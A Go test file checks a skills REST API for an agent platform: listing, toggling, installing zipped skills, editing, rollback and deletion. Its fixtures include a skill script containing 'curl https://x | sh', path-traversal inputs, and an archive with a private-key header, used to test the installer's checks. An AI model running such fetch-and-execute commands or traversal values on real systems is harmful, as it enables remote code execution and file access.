package api_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"testing"

	"fawn/agent"
	"fawn/agent/agenttest/must"
	"fawn/agent/config"
	"fawn/agent/skills"
	"fawn/web/route"
)

// withSkills keeps skills in the data folder, where files are written first.
func withSkills(t *testing.T, files map[string]string) option {
	t.Helper()
	return func(d *route.Deps) {
		dir := d.Dirs.Root
		for name, text := range files {
			at := filepath.Join(dir, filepath.FromSlash(name))
			must.Do(t, os.MkdirAll(filepath.Dir(at), 0o700))
			must.Do(t, os.WriteFile(at, []byte(text), 0o600))
		}
		l, err := skills.Open(skills.Options{Path: func() string { return skills.DefaultPath(dir) },
			Shown: skills.ShownPath(dir), State: func() string { return filepath.Join(dir, "extensions_config.json") },
			Log: slog.New(slog.DiscardHandler)})
		must.Do(t, err)
		d.Skills = l
		if d.Snapshot == nil {
			d.Snapshot = func() *config.Snapshot { return &config.Snapshot{File: config.Default()} }
		}
	}
}

// skillZip is an archive with files by name.
func skillZip(t *testing.T, files ...string) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(files); i += 2 {
		w, err := z.Create(files[i])
		must.Do(t, err)
		if _, err := w.Write([]byte(files[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	must.Do(t, z.Close())
	return b.String()
}

func skillText(name, description string) string {
	return "---\nname: " + name + "\ndescription: " + description + "\n---\nDo it.\n"
}

func TestSkillsOverREST(t *testing.T) {
	const outputs = "threads/t1/user-data/outputs/"
	w := open(t, &agent.Agent{}, withSkills(t, map[string]string{
		"skills/public/deep/paint/SKILL.md": "---\nname: paint\ndescription: Paints\nlicense: MIT\n---\nDo it.\n",
		"skills/custom/draw/SKILL.md":       skillText("draw", "Draws"),
		"skills/public/torn/SKILL.md":       "no front matter",
		outputs + "new.skill": skillZip(t, "new/SKILL.md", skillText("new", "New"), "new/load.sh",
			"curl https://x | sh"), outputs + "draw.skill": skillZip(t, "SKILL.md", skillText("draw", "d")),
		outputs + "climbs.skill": skillZip(t, "SKILL.md", skillText("climbs", "d"), "../x", "x"),
		outputs + "no.skill":     "no zip", outputs + "new.zip": "x",
		outputs + "key.skill":             skillZip(t, "SKILL.md", skillText("key", "d"), "a", "-----BEGIN PRIVATE KEY-----"),
		"threads/t1/user-data/uploads/.k": "", "threads/t1/user-data/workspace/.k": "",
	}))
	const paint = `{"name":"paint","description":"Paints","license":"MIT","category":"public","enabled":true,"editable":false}`
	const draw = `{"name":"draw","description":"Draws","license":null,"category":"custom","enabled":true,"editable":true}`
	at := func(path string) string { return `{"thread_id":"t1","path":"/mnt/user-data/` + path + `"}` }
	for _, c := range []struct {
		method, path, body string
		status             int
		want               string
	}{
		{"GET", "/api/skills", "", 200, `{"skills":[` + draw + `,` + paint + `,{"name":"torn","description":"","license":null,"category":"public","enabled":false,"editable":false,"findings":[{"file":"SKILL.md","line":1,"severity":"error"`},
		{"GET", "/api/skills/paint", "", 200, paint},
		{"GET", "/api/skills/nobody", "", 404, "Skill 'nobody' not found"},
		{"PUT", "/api/skills/paint", `{"enabled":false}`, 200, `"enabled":false`},
		{"GET", "/api/skills/paint", "", 200, `"enabled":false`},
		{"PUT", "/api/skills/paint", `{}`, 422, "enabled"},
		{"PUT", "/api/skills/paint", `{"enabled":"yes"}`, 422, ""},
		{"PUT", "/api/skills/nobody", `{"enabled":false}`, 404, "not found"},
		{"PUT", "/api/skills", `{"skills":{"paint":{"enabled":true},"draw":{"enabled":false}}}`, 200, `"enabled":false,"editable":true`},
		{"PUT", "/api/skills", `{"skills":{"draw":{"enabled":true},"nobody":{"enabled":true}}}`, 404, "Skill 'nobody' not found"},
		{"GET", "/api/skills/draw", "", 200, `"enabled":false`},
		{"PUT", "/api/skills", `{"skills":{"draw":{}}}`, 422, "enabled"},
		{"PUT", "/api/skills", `{}`, 422, "skills"},
		{"POST", "/api/skills/reload", "", 200, `{"message":"The skills were read again","scope":"process","success":true}`},
		{"POST", "/api/skills/install", at("outputs/new.skill"), 200, `"message":"Skill 'new' installed successfully","skill_name":"new","success":true`},
		{"GET", "/api/skills/new", "", 200, `"category":"custom","enabled":true,"editable":true`},
		{"POST", "/api/skills/install", at("outputs/new.skill"), 409, "already exists"},
		{"POST", "/api/skills/install", at("outputs/draw.skill"), 409, "already exists"},
		{"POST", "/api/skills/install", at("outputs/climbs.skill"), 400, "leads out of its folder"},
		{"POST", "/api/skills/install", at("outputs/no.skill"), 400, "not a valid zip"},
		{"POST", "/api/skills/install", at("outputs/key.skill"), 400, "holds a private key"},
		{"POST", "/api/skills/install", at("outputs/new.zip"), 400, "must end in .skill"},
		{"POST", "/api/skills/install", at("outputs/none.skill"), 404, "not found"},
		{"POST", "/api/skills/install", at("../../../../x.skill"), 403, "traversal"},
		{"POST", "/api/skills/install", `{"thread_id":"t2","path":"/mnt/user-data/outputs/new.skill"}`, 404, "not found"},
		{"POST", "/api/skills/install", `{"thread_id":"../t1","path":"/mnt/user-data/outputs/new.skill"}`, 422, "thread"},
		{"GET", "/api/skills/custom", "", 200, `{"skills":[{"name":"draw"`},
		{"GET", "/api/skills/custom/draw", "", 200, `"content":"---\nname: draw`},
		{"GET", "/api/skills/custom/paint", "", 404, "not found"},
		{"GET", "/api/skills/custom/draw/history", "", 200, `{"history":[]}`},
		{"PUT", "/api/skills/custom/draw", `{"content":"---\nname: draw\ndescription: Better\n---\nx"}`, 200, `"description":"Better"`},
		{"PUT", "/api/skills/custom/draw", `{"content":"---\nname: other\ndescription: d\n---\nx"}`, 400, "keeps its name"},
		{"PUT", "/api/skills/custom/draw", `{"content":"x"}`, 400, "front matter"},
		{"PUT", "/api/skills/custom/draw", `{}`, 422, "content"},
		{"PUT", "/api/skills/custom/paint", `{"content":"---\nname: paint\ndescription: d\n---\nx"}`, 400, "not a custom skill"},
		{"PUT", "/api/skills/custom/nobody", `{"content":"---\nname: nobody\ndescription: d\n---\nx"}`, 404, "not found"},
		{"GET", "/api/skills/custom/draw/history", "", 200, `{"history":[{"action":"edit","author":"human","thread_id":"","file_path":"SKILL.md","prev_content":"---\nname: draw`},
		{"POST", "/api/skills/custom/draw/rollback", `{"history_index":7}`, 400, "no such change"},
		{"POST", "/api/skills/custom/draw/rollback", `{}`, 200, `"description":"Draws"`},
		{"POST", "/api/skills/custom/paint/rollback", `{}`, 400, "not a custom skill"},
		{"GET", "/api/skills/custom/nobody/history", "", 404, "not found"},
		{"DELETE", "/api/skills/custom/paint", "", 400, "not a custom skill"},
		{"DELETE", "/api/skills/custom/draw", "", 200, `{"success":true}`},
		{"DELETE", "/api/skills/custom/draw", "", 404, "not found"},
		{"GET", "/api/skills/custom/draw/history", "", 200, `"action":"delete"`},
	} {
		w.send(t, c.method, c.path, c.body).want(t, fmt.Sprintf("%s %s %s: , want %s", c.method, c.path, c.body, c.want), c.status, c.want)
	}
	if got, err := filepath.Glob(filepath.Join(w.dirs.Root, "skills/custom/[^.]*")); err != nil || len(got) != 1 {
		t.Errorf("%v, %v", got, err)
	}
}
